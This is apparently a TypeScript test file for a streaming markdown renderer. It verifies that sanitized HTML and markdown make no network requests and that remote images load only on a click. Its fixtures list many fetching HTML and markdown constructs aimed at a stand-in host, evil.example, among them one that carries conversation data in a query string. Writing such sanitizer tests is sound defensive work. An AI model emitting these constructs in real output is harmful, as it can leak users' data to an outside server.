/**
 * Rendering streamed text fetches nothing: remote images become placeholders
 * that load on a click (one at a time) or all at once when load_images is on,
 * and nothing else in the sanitized output can make a request.
 */
import { afterEach, describe, expect, it } from "vitest";
import { gateImages, imageHost, isInlineImageUrl } from "../src/images";
import { StreamingMarkdown } from "../src/markdown";
import { renderMarkdown } from "../src/markdown-render";
import { sanitizeToFragment } from "../src/sanitize";
import { ManualScheduler } from "../src/scheduler";
import { StreamStore } from "../src/store";
import { mountView, type ViewHandle } from "../src/view";
import { FakeModel } from "./fake-model";

const PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=";
const EVIL = "https://evil.example";

/** HTML that makes a browser fetch, one construct each (fed to the sanitizer directly). */
const FETCHING_HTML: string[] = [
  `<img src="${EVIL}/a.png">`,
  `<img src="${PIXEL}" srcset="${EVIL}/b.png 2x">`,
  `<img src="${EVIL}/c.png" loading="lazy" decoding="async">`,
  `<picture><source srcset="${EVIL}/d.png"><img src="${EVIL}/e.png"></picture>`,
  `<video poster="${EVIL}/f.png" src="${EVIL}/g.mp4"><source src="${EVIL}/h.mp4"><track src="${EVIL}/i.vtt"></video>`,
  `<audio src="${EVIL}/j.mp3" autoplay></audio>`,
  `<link rel="stylesheet" href="${EVIL}/k.css">`,
  `<link rel="prefetch" href="${EVIL}/l">`,
  `<link rel="preload" as="image" href="${EVIL}/m.png">`,
  `<style>@import url(${EVIL}/n.css); p { background: url(${EVIL}/o.png) }</style>`,
  `<p style="background-image: url(${EVIL}/p.png)">styled</p>`,
  `<span style="list-style: url('${EVIL}/q.png')">x</span>`,
  `<table background="${EVIL}/r.png"><tr><td background="${EVIL}/s.png">cell</td></tr></table>`,
  `<body background="${EVIL}/t.png">`,
  `<svg><image href="${EVIL}/u.png"/><use href="${EVIL}/v.svg#a"/></svg>`,
  `<svg><image xlink:href="${EVIL}/w.png"/></svg>`,
  `<svg><feImage href="${EVIL}/x.png"/></svg>`,
  `<object data="${EVIL}/y.swf"></object>`,
  `<embed src="${EVIL}/z.swf">`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<iframe srcdoc="<img src=${EVIL}/srcdoc.png>"></iframe>`,
  `<input type="image" src="${EVIL}/input.png">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/meta">`,
  `<base href="${EVIL}/">`,
  `<a href="${EVIL}/page" ping="${EVIL}/ping">link</a>`,
  `<img lowsrc="${EVIL}/low.png" dynsrc="${EVIL}/dyn.avi">`,
  `<blockquote cite="${EVIL}/cite">q</blockquote>`,
  `<div class="jp-icon3 fa fa-bug">classes that page CSS might dress with a url()</div>`,
  `<math><mglyph src="${EVIL}/glyph.png"></mglyph></math>`,
  `<img src="//evil.example/protocol-relative.png">`,
  `<img src=" ${EVIL}/spaced.png ">`,
];

/** Markdown that names remote images, every way marked reads one. */
const MARKDOWN_IMAGES = [
  `![inline](${EVIL}/1.png?q=conversation)`,
  `![titled](${EVIL}/2.png "a title")`,
  `![ref][pic]\n\n[pic]: ${EVIL}/3.png`,
  `![collapsed][]\n\n[collapsed]: ${EVIL}/4.png`,
  `![shortcut]\n\n[shortcut]: ${EVIL}/5.png`,
  `[![linked](${EVIL}/6.png)](${EVIL}/target)`,
  `- item ![in a list](${EVIL}/7.png)`,
  `| a |\n|---|\n| ![in a table](${EVIL}/8.png) |`,
  `> ![quoted](${EVIL}/9.png)`,
  `![relative](./10.png)`,
  `**![in bold](${EVIL}/11.png)**`,
];

/** Attributes an element of the sanitized output may carry (none fetches). */
const INERT_ATTRS = new Set([
  "class", "alt", "title", "align", "start", "type", "checked", "disabled", "target", "rel",
  "referrerpolicy", "data-sse-src", "data-sse-alt", "data-sse-title",
]);

function assertFetchesNothing(root: ParentNode, context: string): void {
  for (const el of root.querySelectorAll("*")) {
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      const where = [context, el.tagName, name, attr.value];
      if (name === "href") expect([...where, el.tagName]).toEqual([...where, "A"]);
      else if (name === "src") expect([...where, isInlineImageUrl(attr.value)]).toEqual([...where, true]);
      else expect([...where, INERT_ATTRS.has(name)]).toEqual([...where, true]);
    }
    for (const token of el.classList) {
      expect([context, token, /^(sse-widget-|hljs|language-)|_$/.test(token)]).toEqual([context, token, true]);
    }
  }
  for (const tag of ["link", "style", "video", "audio", "source", "track", "picture", "svg", "object", "embed", "iframe", "meta", "base", "math"]) {
    expect([context, tag, root.querySelector(tag)]).toEqual([context, tag, null]);
  }
}

describe("sanitized output fetches nothing", () => {
  for (const [i, html] of FETCHING_HTML.entries()) {
    it(`html ${i}: ${html.slice(0, 60)}`, () => {
      const fragment = sanitizeToFragment(html);
      assertFetchesNothing(fragment, `html ${i}`);
    });
  }

  it("keeps no remote URL anywhere but link targets and placeholders", () => {
    const fragment = sanitizeToFragment(FETCHING_HTML.join("\n"));
    const root = document.createElement("div");
    root.append(fragment);
    const holding = new Set<string>();
    for (const el of root.querySelectorAll("*")) {
      for (const attr of Array.from(el.attributes)) {
        if (attr.value.includes("evil.example")) holding.add(`${el.tagName.toLowerCase()}.${el.className} ${attr.name}`);
      }
    }
    // A link target (fetched on a click), the placeholder's URL and its tooltip.
    expect([...holding].sort()).toEqual([
      "a. href",
      "button.sse-widget-image-load title",
      "span.sse-widget-image data-sse-src",
    ]);
    // The remote <img> tags are placeholders now.
    const sources = Array.from(root.querySelectorAll(".sse-widget-image"), (h) => h.getAttribute("data-sse-src"));
    expect(sources).toContain(`${EVIL}/a.png`);
    expect(sources).toContain("//evil.example/protocol-relative.png");
    expect(root.querySelector("img[srcset]")).toBeNull();
  });

  for (const [i, source] of MARKDOWN_IMAGES.entries()) {
    it(`markdown ${i}: ${JSON.stringify(source).slice(0, 50)}`, () => {
      const root = document.createElement("div");
      root.append(renderMarkdown(source));
      assertFetchesNothing(root, `markdown ${i}`);
      expect(root.querySelector("img")).toBeNull();
      const holders = root.querySelectorAll(".sse-widget-image");
      expect(holders.length).toBe(1);
      const holder = holders[0] as HTMLElement;
      expect(holder.querySelector("button")!.type).toBe("button");
      const alt = /!\[([^\]]*)\]/.exec(source)![1]!;
      expect(holder.querySelector(".sse-widget-image-alt")!.textContent).toBe(alt);
      if (holder.getAttribute("data-sse-src")!.startsWith(EVIL)) {
        expect(holder.querySelector(".sse-widget-image-host")!.textContent).toBe(" · evil.example");
      }
    });
  }

  it("never shows a remote image in any frame of a stream", () => {
    const source = MARKDOWN_IMAGES.join("\n\n");
    const root = document.createElement("div");
    const md = new StreamingMarkdown(root);
    for (let end = 1; end <= source.length; end += 2) {
      md.update(source.slice(0, end), true);
      assertFetchesNothing(root, `frame ${end}`);
      expect(root.querySelector("img[src]")).toBeNull();
    }
    md.update(source, false);
    expect(root.querySelectorAll(".sse-widget-image").length).toBe(MARKDOWN_IMAGES.length);
  });

  it("shows data: images inline", () => {
    const root = document.createElement("div");
    root.append(renderMarkdown(`![dot](${PIXEL}) ![vector](data:image/svg+xml;base64,PHN2Zy8+)`));
    const sources = Array.from(root.querySelectorAll("img"), (img) => img.getAttribute("src"));
    expect(sources).toEqual([PIXEL, "data:image/svg+xml;base64,PHN2Zy8+"]);
    expect(root.querySelector(".sse-widget-image")).toBeNull();
  });

  it("tells inline images from everything else", () => {
    expect(isInlineImageUrl(PIXEL)).toBe(true);
    expect(isInlineImageUrl("DATA:image/gif;base64,R0lG")).toBe(true);
    expect(isInlineImageUrl("data:text/html,<p>x</p>")).toBe(false);
    expect(isInlineImageUrl("data:image/png")).toBe(false);
    expect(isInlineImageUrl(`${EVIL}/data:image/png,`)).toBe(false);
    expect(imageHost("https://user:pw@evil.example:8443/p.png", "http://page.invalid/")).toBe("evil.example:8443");
    expect(imageHost("./p.png", "http://page.invalid/lab")).toBe("page.invalid");
  });
});

describe("placeholders load on request", () => {
  const roots: HTMLElement[] = [];
  afterEach(() => {
    for (const root of roots.splice(0)) root.remove();
  });

  function rendered(source: string): HTMLElement {
    const root = document.createElement("div");
    root.append(renderMarkdown(source));
    document.body.append(root);
    roots.push(root);
    return root;
  }

  const TWO = `[![one](${EVIL}/1.png)](${EVIL}/page) and ![two](${EVIL}/2.png "second")`;

  it("loads exactly the clicked image, without following a link around it", () => {
    const root = rendered(TWO);
    const gate = gateImages(root, { loadAll: () => false });
    const buttons = root.querySelectorAll<HTMLButtonElement>(".sse-widget-image-load");
    expect(buttons.length).toBe(2);
    const click = new MouseEvent("click", { bubbles: true, cancelable: true });
    buttons[0]!.dispatchEvent(click);
    expect(click.defaultPrevented).toBe(true);
    expect(Array.from(root.querySelectorAll("img"), (img) => img.getAttribute("src"))).toEqual([`${EVIL}/1.png`]);
    const img = root.querySelector("img")!;
    expect(img.alt).toBe("one");
    expect(img.getAttribute("referrerpolicy")).toBe("no-referrer");
    expect(root.querySelectorAll(".sse-widget-image-load").length).toBe(1);
    gate.apply();
    expect(root.querySelectorAll("img").length).toBe(1);

    root.querySelector<HTMLButtonElement>(".sse-widget-image-load")!.click();
    expect(Array.from(root.querySelectorAll("img"), (i) => i.title)).toEqual(["", "second"]);
    gate.destroy();
  });

  it("loads every image when load_images is on", () => {
    const root = rendered(TWO);
    let all = false;
    const gate = gateImages(root, { loadAll: () => all });
    gate.apply();
    expect(root.querySelectorAll("img").length).toBe(0);
    all = true;
    gate.apply();
    expect(Array.from(root.querySelectorAll("img"), (img) => img.getAttribute("src"))).toEqual([
      `${EVIL}/1.png`,
      `${EVIL}/2.png`,
    ]);
    gate.destroy();
  });

  it("keeps an allowed image loaded when the text is rendered anew", () => {
    const root = document.createElement("div");
    document.body.append(root);
    roots.push(root);
    const md = new StreamingMarkdown(root);
    const gate = gateImages(root, { loadAll: () => false });
    md.update(`Look ![one](${EVIL}/1.png)`, true);
    gate.apply();
    root.querySelector<HTMLButtonElement>(".sse-widget-image-load")!.click();
    md.update(`Look ![one](${EVIL}/1.png) and ![two](${EVIL}/2.png)`, true);
    gate.apply();
    expect(Array.from(root.querySelectorAll("img"), (img) => img.getAttribute("src"))).toEqual([`${EVIL}/1.png`]);
    expect(root.querySelectorAll(".sse-widget-image-load").length).toBe(1);
    gate.destroy();
  });

  it("ignores clicks once destroyed", () => {
    const root = rendered(TWO);
    gateImages(root, { loadAll: () => false }).destroy();
    root.querySelector<HTMLButtonElement>(".sse-widget-image-load")!.click();
    expect(root.querySelector("img")).toBeNull();
  });
});

describe("the view's image gate", () => {
  const views: Array<{ view: ViewHandle; el: HTMLElement }> = [];
  afterEach(() => {
    for (const { view, el } of views.splice(0)) {
      view.destroy();
      el.remove();
    }
  });

  function mount(model: FakeModel, store: StreamStore) {
    const scheduler = new ManualScheduler();
    const el = document.createElement("div");
    document.body.append(el);
    const view = mountView({ model: model.asModel(), el, store, scheduler });
    views.push({ view, el });
    return { el, scheduler };
  }

  it("follows load_images, and a later view keeps what the user loaded", () => {
    const text = `![a](${EVIL}/a.png) ![b](${EVIL}/b.png) ![c](${EVIL}/c.png)`;
    const model = new FakeModel({ run_id: 1, status: "done", text });
    const store = new StreamStore(model.asModel()).start();
    const first = mount(model, store);
    const srcs = (el: HTMLElement) => Array.from(el.querySelectorAll("img"), (img) => img.getAttribute("src"));
    expect(srcs(first.el)).toEqual([]);
    first.el.querySelector<HTMLButtonElement>(".sse-widget-image-load")!.click();
    expect(srcs(first.el)).toEqual([`${EVIL}/a.png`]);

    model.set("markdown", false);
    first.scheduler.flush();
    model.set("markdown", true);
    first.scheduler.flush();
    expect(srcs(first.el)).toEqual([`${EVIL}/a.png`]);

    const second = mount(model, store);
    expect(srcs(second.el)).toEqual([`${EVIL}/a.png`]);

    model.set("load_images", true);
    expect(srcs(first.el)).toEqual([`${EVIL}/a.png`, `${EVIL}/b.png`, `${EVIL}/c.png`]);
    expect(srcs(second.el)).toEqual([`${EVIL}/a.png`, `${EVIL}/b.png`, `${EVIL}/c.png`]);
    store.dispose();
  });
});
